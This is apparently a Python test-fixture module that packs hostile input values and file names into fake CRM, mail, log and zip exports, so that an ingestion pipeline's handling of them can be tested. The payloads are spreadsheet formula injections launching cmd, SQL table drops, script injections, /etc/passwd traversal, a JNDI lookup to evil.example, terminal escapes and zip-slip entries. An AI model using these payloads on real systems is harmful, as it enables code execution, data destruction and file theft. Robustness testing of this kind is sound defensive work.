"""One corpus of hostile values and names, and deliveries that carry it through every input."""

from __future__ import annotations

import json

from faults.deliveries import CALL, LOG, THREE, contact, contacts, events, zipped

VALUES = {
    "formula": "=cmd|' /C calc'!A0",
    "formula after a plus": "+1+cmd|' /C calc'!A0",
    "formula after a minus": "-2+3+cmd|' /C calc'!A0",
    "formula after an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SQL": "'; drop table profiles; --",
    "SQL comment": "*/ union select 1 /*",
    "HTML": "<script>alert(1)</script>",
    "HTML attribute": '"><img src=x onerror=alert(1)>',
    "markup of a terminal": "[red]x[/red] [link=http://evil.example]y[/link]",
    "path": "../../../../etc/passwd",
    "template": "{{7*7}} ${jndi:ldap://evil.example/a} %s %n",
    "glob": "d[1]*?.csv",
    "escape": "\x1b[2J\x1b]0;owned\x07",
    "control characters": "a\x01\x08\x7f\x85b",
    "right to left": "\u202egnp.exe\u2066\u200b",
    "letters of many planes": "𝒜\U0001f469\u200d\U0001f4bb\u0301" * 3,
    "line separators": "one\u2028two\u2029three",
    "number that is none": "NaN",
    "null": "NULL",
    "huge": "x" * 300_000,
}

NAMES = (
    "=cmd.csv",
    "'; drop table raw.source_files; --.csv",
    "d[1].csv",
    "consent=true/last_name=Evil/Contact.csv",
    "<img src=x onerror=alert(1)>.csv",
    "\u202egpj.csv",
    "a\nb\x1b[31m.csv",
    "-rf.csv",
    "%2e%2e%2fetc%2fpasswd.csv",
)


def deliveries() -> dict[str, bytes]:
    """Names and contents: the corpus in every text cell of every kind of export."""
    values = list(VALUES.values())
    lines = [
        contact(100 + n, last=value, first=value, street=value, email=f"h{n}@evil.example")
        for n, value in enumerate(values)
    ]
    mail = [{"category": v, "url": v, "useragent": v, "reason": v, v[:40]: v} for v in values]
    calls = [
        {"name": v, "event": v, "type": "track", "properties": {v[:40]: v}, "anonymousId": v[:400]}
        for v in values
    ]
    folder = "2026-06-01/"
    found = {
        f"{folder}hostile/Contact.csv": contacts(*lines),
        f"{folder}hostile/customers.csv": _customers(values),
        f"{folder}hostile/mail.json": events(*mail),
        f"{folder}hostile/calls.json": events(*calls, base=CALL),
        f"{folder}hostile/pairs.csv": _pairs(values),
        f"{folder}hostile/access.log": "".join(_line(value) + "\n" for value in values).encode(),
        f"{folder}up.zip": zipped(**{"../../evil.csv": THREE, "/etc/evil.csv": b"Id,x\n"}),
    }
    for number, name in enumerate(NAMES):
        found[f"{folder}{name}"] = contacts(contact(200 + number, email=f"n{number}@evil.example"))
    return found


def _line(value: str) -> str:
    text = json.dumps(value[:2000], ensure_ascii=False)[1:-1]
    return LOG.replace("GET /", f"GET /p/{text}").replace("(X11)", text)


def _customers(values: list[str]) -> bytes:
    header = (
        "Customer ID,First Name,Last Name,Email,Accepts Email Marketing,Default Address City,Phone,"
        "Total Spent,Total Orders,Tags"
    )
    rows = [
        ",".join('"' + cell.replace('"', '""') + '"' for cell in (v[:200], v, v, v, "yes", v, v, "1.00", "1", v))
        for v in values
    ]
    return "\n".join([header, *rows, ""]).encode()


def _pairs(values: list[str]) -> bytes:
    """A person's decisions are a file of ours that goes round: delivered, told in reports, delivered."""
    one, other = (f"salesforce:contact:00300000000000{n}AAA" for n in (1, 3))
    rows = [
        ",".join('"' + c.replace('"', '""') + '"' for c in (one, other, "different", v, "2026-05-01", v))
        for v in values[:-1]
    ]
    return "\n".join(["left_record,right_record,decision,decided_by,decided_on,reason", *rows, ""]).encode()


